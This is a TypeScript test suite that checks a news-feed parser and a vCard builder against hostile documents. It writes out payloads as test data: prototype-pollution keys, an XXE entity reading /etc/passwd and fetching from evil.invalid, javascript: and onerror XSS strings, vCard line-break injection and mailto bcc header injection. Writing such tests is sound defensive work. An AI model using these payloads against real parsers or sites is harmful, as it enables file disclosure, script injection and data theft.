/** Attacks through documents that need no page. SECURITY.md lists them. */
import { expect } from 'chai';
import { parseNews } from '../../src/loading/parse-news.js';
import type { NewsFeed } from '../../src/model/news.js';
import { makeVCard } from '../../src/elements/parts/vcard.js';

const URL_OF_FEED = 'https://quay.invalid/feed';

const read = (input: string | object, headers?: Record<string, string>): Promise<NewsFeed> =>
  parseNews(input, { url: URL_OF_FEED, headers: headers && new Headers(headers) });

const jsonFeed = (...items: readonly object[]): object => ({ version: 'https://jsonfeed.org/version/1.1', items });
const rss = (content: string): string => `<rss version="2.0"><channel>${content}</channel></rss>`;
const post = (more: object): object => ({
  id: 1,
  link: 'https://quay.invalid/a',
  title: { rendered: 'Lock' },
  ...more,
});

/** Fails if a reader has changed what all objects inherit. */
const expectCleanPrototypes = (): void => {
  expect(Object.keys(Object.prototype)).to.deep.equal([]);
  expect(({} as Record<string, unknown>)['polluted']).to.equal(undefined);
};

describe('attacks through documents', () => {
  afterEach(expectCleanPrototypes);

  const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

  it('members of JSON with names of object members', async () => {
    const evil = NAMES.map((name) => `"${name}":{"polluted":1,"value":"x"}`).join();
    const feed = await read(
      `{"version":"https://jsonfeed.org/version/1.1",${evil},"items":[{"id":"1","title":"Lock",${evil},"_news":{${evil}}}]}`,
    );
    expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal(['Lock']);
  });

  it('languages with names of object members', async () => {
    const map = Object.fromEntries(NAMES.slice(1).map((name) => [name, 'https://quay.invalid/x']));
    const json = JSON.stringify([post({ translations: map })]).replace('"constructor"', '"__proto__"');
    expect((await read(json)).items[0]?.versions.length).to.equal(1);
    const note = `{"@context":"https://www.w3.org/ns/activitystreams","type":"Note","id":"https://quay.invalid/1","contentMap":{"__proto__":"<p>a</p>","en":"<p>b</p>"}}`;
    expect((await read(note)).items[0]?.versions.some(({ language }) => language === 'en')).to.equal(true);
  });

  it('elements, attributes and prefixes of XML with names of object members', async () => {
    const tags = NAMES.map((name) => `<${name} ${name}="x"/><${name}:a xmlns:${name}="y"/>`).join('');
    const feed = await read(rss(`${tags}<item><title>Lock</title>${tags}</item>`));
    expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
  });

  it('entities that grow, and entities from elsewhere', async () => {
    const feed = await read(
      `<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "https://evil.invalid/d">%d;]>${rss('<item><title>&b;-&c;</title></item>')}`,
    );
    expect(feed.items[0]?.versions[0].headline).to.equal('&b;-&c;');
  });

  it('a list that refers to itself, in data of a page', async () => {
    const item: Record<string, unknown> = { '@type': 'NewsArticle', '@id': '#a', headline: 'Lock', inLanguage: 'en' };
    item['workTranslation'] = [item, { '@id': '#a' }, { '@type': 'NewsArticle', '@id': '#b', translationOfWork: item }];
    const error = await read({ '@context': 'https://schema.org', ...item }).catch((reason: unknown) => reason);
    expect(error).to.satisfy(
      (value: NewsFeed & { code?: string }) => value.code === 'malformed' || value.items.length === 1,
    );
  });

  it('articles that are translations of each other in a circle', async () => {
    const article = (id: string, next: string): object => ({
      '@type': 'NewsArticle',
      '@id': `https://quay.invalid/${id}`,
      headline: id,
      inLanguage: id,
      workTranslation: { '@id': `https://quay.invalid/${next}` },
    });
    const feed = await read({
      '@context': 'https://schema.org',
      '@graph': [article('en', 'fr'), article('fr', 'ru'), article('ru', 'en')],
    });
    expect(feed.items.length).to.equal(1);
    expect(feed.items[0]?.versions.map(({ language }) => language)).to.have.members(['en', 'fr', 'ru']);
  });

  it('next pages that are not web addresses', async () => {
    const pages = await Promise.all(
      ['javascript:alert(1)', 'file:///etc/passwd', 'data:application/json,{}', 'https://a:b@quay.invalid/', 'x:y'].map(
        async (next_url) => (await read({ ...jsonFeed(), next_url })).nextUrl,
      ),
    );
    expect(pages).to.deep.equal([undefined, undefined, undefined, undefined, undefined]);
    const link = { link: '<javascript:alert(1)>; rel="next"' };
    expect((await read(JSON.stringify([post({})]), link)).nextUrl).to.equal(undefined);
  });

  it('a huge page number', async () => {
    const options = { url: 'https://quay.invalid/p?page=1e308', headers: new Headers({ 'x-wp-totalpages': '1e309' }) };
    expect((await parseNews(JSON.stringify([post({})]), options)).nextUrl).to.equal(undefined);
  });

  it('code before a document is data', async () => {
    const feed = await read(
      `alert(1);fetch("https://evil.invalid/")\n${JSON.stringify(jsonFeed({ id: '1', title: 'Lock' }))}`,
    );
    expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
  });

  it('a document behind a hundred thousand characters is not searched for', async () => {
    const error = await read(`${'x\n'.repeat(50_000)}${rss('')}`).catch((reason: unknown) => reason);
    expect(error).to.have.property('code', 'unsupported-format');
  });

  it('halves of characters, written as references', async () => {
    const feed = await read(rss('<item><title>a&#xD83D;b&#xDEA2;&#xD83D;</title></item>'));
    expect(feed.items[0]?.versions[0].headline).to.equal('a\ufffdb\ufffd\ufffd');
  });

  it('a tag that only decoding makes', async () => {
    const feed = await read(
      jsonFeed({ id: '1', title: '&#60;img src=x onerror=alert(1)&#62;' }, { id: '2', title: '&#38;#60;b&#38;#62;' }),
    );
    // Text, which templates insert as text. Decoded once.
    expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal([
      '<img src=x onerror=alert(1)>',
      '&#60;b&#62;',
    ]);
  });

  it('a headline of a million characters', async () => {
    const feed = await read(jsonFeed({ id: '1', title: 'x'.repeat(1_000_000), language: 'e'.repeat(1_000_000) }));
    expect(feed.items[0]?.versions[0].headline?.length).to.equal(10_000);
  });

  it('a name that would make the patterns for names slow', async () => {
    const name = 'a'.repeat(100_000);
    const feed = await read(
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>L</title><author><name>${name}</name></author></entry></feed>`,
    );
    expect(feed.items[0]?.authors[0]?.name.length).to.equal(500);
  });

  it('a list with gaps of four thousand million', async () => {
    const feed = await read({ ...jsonFeed(), items: { 4294967295: { id: '1', title: 'Lock' } } });
    expect(feed.items.length).to.equal(1);
  });

  it('shortcodes that hide a tag from one reader', async () => {
    const feed = await read([post({ content: { rendered: '<scr[vc_row]ipt>alert(1)</scr[/vc_row]ipt>' } })]);
    // The sanitiser reads what is left, so nothing is checked before it is joined.
    expect(feed.items[0]?.versions[0].body).to.deep.equal({ html: '<script>alert(1)</script>' });
  });

  it('line breaks and new properties in a vCard', async () => {
    const card = await makeVCard({
      name: 'Ada\r\nEND:VCARD\nBEGIN:VCARD',
      organization: 'Quay\nPHOTO;VALUE=uri:https://evil.invalid/',
      jobTitle: 'x;y,z\\n',
      email: 'a@quay.invalid',
    });
    const lines = card.split('\r\n').filter((line) => !line.startsWith(' '));
    expect(lines.filter((line) => /^(?:BEGIN|END|PHOTO)/.test(line))).to.deep.equal(['BEGIN:VCARD', 'END:VCARD']);
  });

  it('contacts with headers and codes', async () => {
    const contacts = [
      { email: 'a@quay.invalid?bcc=b@evil.invalid' },
      { email: 'a@quay.invalid%0ABcc:b@evil.invalid' },
      { phone: '*#06#' },
      { url: 'javascript:alert(1)' },
      { url: 'https://quay.invalid@evil.invalid/' },
    ];
    const feed = await read(jsonFeed({ id: '1', title: 'Lock', _news: { contacts } }));
    const written = JSON.stringify(feed.items[0]?.contacts);
    expect(written).to.not.match(/bcc=|%0a|javascript:|@evil/i);
  });
});
